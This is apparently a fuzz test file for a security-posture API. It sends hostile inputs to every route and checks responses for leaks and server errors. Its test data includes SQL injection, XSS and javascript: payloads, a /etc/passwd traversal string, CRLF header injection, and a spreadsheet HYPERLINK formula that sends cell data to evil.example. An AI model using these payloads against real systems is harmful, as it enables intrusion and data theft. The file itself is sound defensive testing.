/*
 * Fuzz test over every route of src/schema/openapi.yaml (issue 21): for each operation, requests
 * are generated from its parameters with hostile values (huge, negative, fractional, non-numeric,
 * unicode, arrays, objects, 10 KB strings, bracketed names, unknown parameters, broken escapes)
 * and sent as every demo principal to the real router over a real store, on SQLite and, when
 * configured, PostgreSQL. No answer may be a 5xx or carry a stack, SQL, an internal URL or a
 * planted secret.
 */
import fc from 'fast-check';
import request from 'supertest';
import {
  createApiHarness,
  PLANTED_SECRETS,
  PrincipalName,
  PRINCIPALS,
} from './__testUtils__/apiHarness';
import { createTestDatabases } from './database/__testUtils__/databases';
import { OpenApiParameter, openApiSpec, specOperations } from './schema/spec';

const databases = createTestDatabases();
const operations = specOperations(openApiSpec());
/** Requests per operation and database; 14 operations × 2 databases stay well under a minute. */
const NUM_RUNS = Number(process.env.SECURITY_POSTURE_FUZZ_RUNS ?? 150);

const FORBIDDEN_TEXT = [
  'select ',
  'from ',
  'where ',
  'entity_ref',
  'http://localhost',
  '127.0.0.1',
  '"stack"',
  ...PLANTED_SECRETS,
];

const hostileValue: fc.Arbitrary<string> = fc.oneof(
  // huge
  fc.constantFrom(
    '1e20',
    '1e21',
    '99999999999999999999999',
    '9007199254740993',
    '1'.repeat(400),
  ),
  fc.bigInt({ min: 2n ** 31n, max: 2n ** 80n }).map(String),
  // negative and fractional
  fc.integer({ min: -1_000_000_000, max: -1 }).map(String),
  fc.double().map(String),
  fc.constantFrom('-0', '1.5', '0.0000001', '.5', '5.'),
  // non-numeric and loosely numeric
  fc.constantFrom(
    '',
    ' ',
    'abc',
    '0x10',
    '1e2',
    ' 5',
    '+5',
    '0o7',
    'NaN',
    'Infinity',
    'null',
    'true',
    '[]',
    '{}',
  ),
  fc.constantFrom(
    "' or 1=1 --",
    'select * from x',
    '<script>',
    '../../etc/passwd',
    '%00',
    '\u0000',
    '\r\nX-Y: z',
  ),
  // unicode
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    'ｓｅｖｅｒｉｔｙ',
    'Ｈｉｇｈ',
    '🙂',
    'é',
    '\u202e',
    '\ufeff',
  ),
  // 10 KB
  fc.string({ maxLength: 8 }).map(s => `${'x'.repeat(10_240)}${s}`),
  fc.string({ maxLength: 20 }),
);

function validValue(parameter: OpenApiParameter): fc.Arbitrary<string> {
  const schema = parameter.schema ?? {};
  const item = schema.type === 'array' ? schema.items ?? {} : schema;
  if (item.enum) return fc.constantFrom(...item.enum.map(String));
  if (item.type === 'integer') {
    return fc
      .integer({ min: item.minimum ?? 0, max: item.maximum ?? 1000 })
      .map(String);
  }
  if (item.type === 'boolean') return fc.constantFrom('true', 'false');
  switch (parameter.name) {
    case 'kind':
      return fc.constantFrom('component', 'Component', 'resource');
    case 'namespace':
      return fc.constantFrom('default', 'development');
    case 'name':
      return fc.constantFrom(
        'payments-api',
        'restricted',
        'no-such-thing',
        'rejected-9',
        'policy-coverage',
      );
    case 'category':
      return fc.constantFrom('catalog', 'permissions', 'auth');
    case 'key':
      return fc.constantFrom('inventory', 'matrix');
    default:
      return fc.stringMatching(/^[a-z0-9][a-z0-9:/_-]{0,20}$/);
  }
}

/**
 * Free text a caller may store (an exemption's reason): hostile in every way but one, it holds
 * none of the fragments the answers are searched for, since a stored text is echoed to later
 * callers; planted secrets are the exception, and must be refused before they are stored.
 */
const storableText = fc.oneof(
  fc.constantFrom(
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '+1',
    '@SUM(A1)',
    '<img src=x onerror=alert(1)>',
    "'; drop table x; --",
    '\u202Eevil',
    'fine \u202Eelif',
    'zero\u200Bwidth',
    'bell \u0007',
    `the key ${PLANTED_SECRETS[0]} is ours`,
    `token ${PLANTED_SECRETS[1]}`,
    ' ',
  ),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ minLength: 1990, maxLength: 2010 }),
).filter(
  text =>
    !FORBIDDEN_TEXT.filter(f => !PLANTED_SECRETS.includes(f)).some(f =>
      text.toLowerCase().includes(f.toLowerCase()),
    ),
);

/** Well-formed bodies of POST /exemptions, for every scope (what the principal may do decides). */
const wellFormedExemption = fc.record(
  {
    scope: fc.constantFrom(
      { type: 'finding', fingerprint: 'fp0componentdefaultpaymentsapi' },
      { type: 'finding', fingerprint: 'fp3componentdefaultidentitygateway' },
      { type: 'finding', fingerprint: 'fp5componentdefaultrestricted' },
      { type: 'finding', fingerprint: 'fp6deployment' },
      { type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/payments-api' },
      { type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/restricted' },
      { type: 'target', checkId: 'auth/cors-wildcard', configPath: 'backend.cors.origin' },
      { type: 'entities', checkId: 'catalog/leaked-secret', entityKind: 'Component' },
      { type: 'entities', checkId: 'catalog/sensitive-reference', owner: 'group:default/payments-checkout' },
    ),
    kind: fc.constantFrom('accepted-risk', 'false-positive', 'mitigated-elsewhere'),
    reason: storableText.filter(text => /^[\p{L}\p{N}\p{P}\p{S} ]*\S[\p{L}\p{N}\p{P}\p{S} ]*$/u.test(text) && text.length <= 2000),
    ticket: fc.constantFrom('https://tickets.example.com/SEC-1', 'http://tickets.example.com/a?b=c#d'),
    expiresAt: fc
      .integer({ min: 1, max: 80 })
      .map(days => new Date(Date.now() + days * 86_400_000).toISOString()),
  },
  { requiredKeys: ['scope', 'kind', 'reason', 'expiresAt'] },
);

/** Bodies of POST /exemptions: hostile scopes, dates and texts. */
const hostileExemption = fc.record(
  {
    scope: fc.oneof(
      fc.record({
        type: fc.constant('finding'),
        fingerprint: fc.constantFrom(
          'fp0componentdefaultpaymentsapi',
          'fp3componentdefaultidentitygateway',
          'fp5componentdefaultrestricted',
          'fp6deployment',
          'nope',
        ),
      }),
      fc.record({
        type: fc.constant('target'),
        checkId: fc.constantFrom('catalog/leaked-secret', 'auth/cors-wildcard', 'x/y'),
        entityRef: fc.oneof(
          fc.constantFrom('component:default/payments-api', 'component:default/restricted', 'Component:Default/Payments-API'),
          hostileValue,
        ),
      }),
      fc.record({
        type: fc.constant('target'),
        checkId: fc.constantFrom('auth/cors-wildcard', 'catalog/leaked-secret'),
        configPath: fc.oneof(fc.constantFrom('backend.cors.origin', 'auth.providers[0]'), hostileValue),
      }),
      fc.record(
        {
          type: fc.constant('entities'),
          checkId: fc.constantFrom('catalog/leaked-secret', 'catalog/sensitive-reference'),
          entityKind: fc.oneof(fc.constantFrom('Component', 'api'), hostileValue),
          owner: fc.oneof(fc.constantFrom('group:default/payments-checkout'), hostileValue),
        },
        { requiredKeys: ['type', 'checkId'] },
      ),
    ),
    kind: fc.constantFrom('accepted-risk', 'false-positive', 'mitigated-elsewhere', 'wont-fix'),
    reason: fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom('Accepted until the vendor ships a fix', 'A WAF blocks it') },
      { weight: 2, arbitrary: storableText },
    ),
    ticket: fc.oneof(
      fc.constantFrom(
        'https://tickets.example.com/SEC-1',
        'HTTP://tickets.example.com/a?b=c#d',
        'https://u:p@tickets.example.com/',
        `${'java'}script:alert(1)`,
        'https://tickets.example.com/ space',
        `https://tickets.example.com/?t=${PLANTED_SECRETS[1]}`,
      ),
      storableText,
    ),
    expiresAt: fc.oneof(
      {
        weight: 3,
        arbitrary: fc
          .integer({ min: 1, max: 80 })
          .map(days => new Date(Date.now() + days * 86_400_000).toISOString()),
      },
      fc.integer({ min: -10, max: 400 }).map(days => new Date(Date.now() + days * 86_400_000).toISOString()),
      fc.constantFrom('2027-02-30T00:00:00Z', '9999-12-31T23:59:59Z', 'tomorrow', '', '2027-01-01'),
      hostileValue,
    ),
  },
  { requiredKeys: ['scope', 'kind'] },
);

const exemptionBody = fc.oneof(wellFormedExemption, hostileExemption);

/** One parameter's contribution to the query string: a value, a list, an object, or nothing. */
function queryPart(parameter: OpenApiParameter): fc.Arbitrary<string[]> {
  const value = fc.oneof(
    { weight: 2, arbitrary: validValue(parameter) },
    { weight: 3, arbitrary: hostileValue },
  );
  const e = encodeURIComponent;
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant<string[]>([]) },
    { weight: 4, arbitrary: value.map(v => [`${parameter.name}=${e(v)}`]) },
    {
      weight: 1,
      arbitrary: fc
        .array(value, { minLength: 2, maxLength: 60 })
        .map(vs => vs.map(v => `${parameter.name}=${e(v)}`)),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('[]', '[x]', '[0]', '[a][b]', '.x'), value)
        .map(([suffix, v]) => [`${e(parameter.name + suffix)}=${e(v)}`]),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('[', ']', '[]'), value)
        .map(([b, v]) => [`${parameter.name}${b}=${e(v)}`]),
    },
  );
}

/** A valid value of the parameter, or nothing. */
function validQueryPart(parameter: OpenApiParameter): fc.Arbitrary<string[]> {
  return fc.oneof(
    fc.constant<string[]>([]),
    validValue(parameter).map(v => [`${parameter.name}=${encodeURIComponent(v)}`]),
  );
}

const unknownParameters = fc.array(
  fc
    .tuple(fc.stringMatching(/^[a-z][a-zA-Z\[\]]{0,8}$/), hostileValue)
    .map(([name, v]) => `${encodeURIComponent(name)}=${encodeURIComponent(v)}`),
  { maxLength: 2 },
);

/** A path segment: valid, hostile (encoded), or broken percent-encoding. */
function pathSegment(parameter: OpenApiParameter): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: validValue(parameter).map(encodeURIComponent) },
    {
      weight: 3,
      arbitrary: hostileValue.filter(v => v !== '').map(encodeURIComponent),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '%00',
        '%C3%28',
        '%',
        '%zz',
        '%E0%A4%A',
        '..',
        '%2F',
        '%2e%2e',
        'a%00b',
      ),
    },
  );
}

const principal = fc.constantFrom(
  ...(Object.keys(PRINCIPALS) as PrincipalName[]),
);

function safeDecode(text: string) {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

describe.each(databases.eachSupportedId())(
  'fuzzing every route on %p',
  databaseId => {
    let harness: Awaited<ReturnType<typeof createApiHarness>>;

    beforeAll(async () => {
      harness = await createApiHarness(databaseId, {
        databases,
        catalogInternalFailures: false,
      });
    }, 60_000);

    it.each(
      operations.map(op => [op.method.toUpperCase(), op.path, op] as const),
    )(
      '%s %s',
      async (_method, _path, operation) => {
        const pathParams = operation.parameters.filter(p => p.in === 'path');
        const queryParams = operation.parameters.filter(p => p.in === 'query');
        const requestArb = fc.record({
          who: principal,
          segments: fc.tuple(...pathParams.map(pathSegment)),
          query: fc.oneof(
            { weight: 3, arbitrary: fc.tuple(...queryParams.map(queryPart)) },
            // Now and then every parameter valid (or absent), so that operations with many
            // parameters get past validation too.
            { weight: 1, arbitrary: fc.tuple(...queryParams.map(validQueryPart)) },
          ),
          unknown: fc.oneof(
            { weight: 3, arbitrary: fc.constant<string[]>([]) },
            { weight: 1, arbitrary: unknownParameters },
          ),
          body: fc.option(
            fc.oneof(
              fc.jsonValue({ maxDepth: 3 }),
              fc.constant({ x: 'y'.repeat(20_000) }),
              // Routes that take a body get well-formed ones too, or validation would stop them all.
              ...(operation.path === '/exemptions'
                ? [exemptionBody, exemptionBody, exemptionBody, exemptionBody]
                : []),
            ),
            { freq: 3 },
          ),
        });
        const statuses = new Map<number, number>();
        await fc.assert(
          fc.asyncProperty(
            requestArb,
            async ({ who, segments, query, unknown, body }) => {
              let path = operation.path;
              pathParams.forEach((p, i) => {
                path = path.replace(`{${p.name}}`, (segments as string[])[i]);
              });
              const parts = [...(query as string[][]).flat(), ...unknown];
              const url = `/api/security-posture${path}${
                parts.length ? `?${parts.join('&')}` : ''
              }`;
              let call = (request(harness.app) as any)
                [operation.method](url)
                .set('Authorization', PRINCIPALS[who]);
              if (operation.method === 'post' && body !== null) {
                call = call
                  .set('Content-Type', 'application/json')
                  .send(JSON.stringify(body));
              }
              const res = await call;
              statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
              const text = res.text ?? '';
              // What the caller sent may come back (an echo is not a leak).
              const sent = `${safeDecode(url)} ${body === null ? '' : JSON.stringify(body)}`.toLowerCase();
              const context = `${operation.method.toUpperCase()} ${url.slice(
                0,
                300,
              )} as ${who} → ${res.status}: ${text.slice(0, 300)}`;
              if (res.status >= 500) throw new Error(`5xx: ${context}`);
              for (const fragment of FORBIDDEN_TEXT) {
                if (
                  text.toLowerCase().includes(fragment.toLowerCase()) &&
                  !sent.includes(fragment.toLowerCase())
                ) {
                  throw new Error(
                    `body holds ${JSON.stringify(fragment)}: ${context}`,
                  );
                }
              }
              if (/\n\s+at .+:\d+:\d+/.test(text))
                throw new Error(`stack in body: ${context}`);
              if (
                res.status >= 400 &&
                res.headers['content-type']?.includes('json')
              ) {
                const keys = Object.keys(res.body.error ?? {}).sort().join();
                if (keys !== 'message,name') {
                  throw new Error(`error body not { name, message }: ${context}`);
                }
              }
            },
          ),
          { numRuns: NUM_RUNS },
        );
        // Meaningful only if requests got past validation too (into authorization and the store).
        const passedValidation = [...statuses.keys()].filter(s => s !== 400);
        expect({
          statuses: Object.fromEntries(statuses),
          passed: passedValidation.length > 0,
        }).toMatchObject({
          passed: true,
        });
      },
      120_000,
    );
  },
);
